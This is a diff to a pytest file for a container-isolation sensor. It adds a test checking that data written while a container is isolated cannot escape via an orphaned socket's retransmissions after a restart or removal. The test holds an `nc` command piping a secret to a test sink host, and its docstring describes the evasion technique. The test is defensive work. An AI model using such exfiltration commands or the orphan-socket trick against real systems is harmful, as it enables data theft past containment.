@@ -18,6 +18,8 @@ import time
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 from sensor.attribution.cgroups import find_cgroup2_mount
 
 from ..privileged.harness import IMAGE, SINK_IP, SLUICE, Docker, SensorProc, SinkNet, action, cid_of, run_container
@@ -38,7 +40,11 @@ def _entry(s: SensorProc) -> dict[str, Any]:
 
 
 def _sink_conns(net: SinkNet, port: int) -> int:
-    return sum(1 for r in net.received() if r.get("port") == port)
+    """Connections the sink accepted on `port`. Counted at accept: a
+    connection that isolation cut mid-stream is recorded as ended only at
+    the sink's 30 s read timeout, which once made it look like a connection
+    from the restarted container."""
+    return sum(1 for r in net.received() if r.get("proto") == "accept" and r.get("port") == port)
 
 
 def _left(s: SensorProc, cid: str, port: int, after: float) -> int:
@@ -136,3 +142,65 @@ def test_isolation_holds_across_restart_and_sub_cgroups(base: Path, docker: Dock
                 except OSError:
                     time.sleep(0.2)
         assert s.stop() == 0
+
+
+ORPHAN_PORT = 9005
+SECRET = "SECRET-WRITTEN-WHILE-ISOLATED"
+
+
+@pytest.mark.parametrize("end", ["restart", "remove"])
+def test_what_was_written_while_isolated_never_leaves_after_the_container(
+    base: Path, docker: Docker, net: SinkNet, end: str
+) -> None:
+    """The attacker's way around a restart: a connection set up before the
+    isolation, data written into it while isolated (dropped, so queued for
+    retransmission), then the container killed. Its socket becomes an
+    orphan that keeps retransmitting under the old cgroup after the
+    container runs again in a new one (in a shared network namespace, as in
+    a pod), or after the container was removed. The old cgroup must stay
+    contained: once it was released, the next retransmission carried the
+    data out (44 bytes reached the sink before the fix)."""
+    s = SensorProc(base, docker.sock, name="orphan")
+    s.start()
+    holder = run_container(docker, net, "sleep 600", wait=False)
+    script = (
+        f"{{ echo pre-isolation; while [ ! -e /tmp/go ]; do usleep 100000; done; echo {SECRET}; sleep 600; }}"
+        f" | nc {SINK_IP} {ORPHAN_PORT}"
+    )
+    target = docker.docker("run", "-d", "--network", f"container:{holder}", IMAGE, "sh", "-c", script)
+    try:
+        deadline = time.monotonic() + 20
+        while _sink_conns(net, ORPHAN_PORT) < 1:
+            assert time.monotonic() < deadline, "the connection never reached the sink"
+            time.sleep(0.2)
+        s.wait_for(lambda d: cid_of(d) == target, what="a document about the target", timeout=10)
+        _cli(s, "isolate", target[:12], "--reason", "orphan test")
+        docker.docker("exec", target, "touch", "/tmp/go")  # the secret is written, and dropped
+        time.sleep(1)
+        # the socket is orphaned with the secret queued
+        if end == "restart":
+            docker.docker("restart", "-t", "1", target)
+            s.wait_for(
+                lambda d: action(d) == "containment_followed" and cid_of(d) == target,
+                what="containment_followed document",
+                timeout=15,
+            )
+        else:
+            docker.docker("rm", "-f", target)
+            released = s.wait_for(
+                lambda d: action(d) == "containment_released" and cid_of(d) == target,
+                what="containment_released document",
+                timeout=30,
+            )
+            assert "stay contained in the kernel" in released["message"], released["message"]
+        # the sink records the connection when it ends: with the secret and
+        # a FIN if a retransmission got out, else at its 30 s read timeout
+        deadline = time.monotonic() + 45
+        while not (ended := [r for r in net.received() if r.get("proto") == "tcp" and r["port"] == ORPHAN_PORT]):
+            assert time.monotonic() < deadline, "the sink never closed the connection"
+            time.sleep(0.5)
+        assert ended[0]["bytes"] == len("pre-isolation\n"), f"the orphan's retransmission left the node: {ended}"
+        if end == "restart":
+            assert _entry(s)["former_cgroup_ids"], _entry(s)
+    finally:
+        docker.docker("rm", "-f", target, holder, check=False)
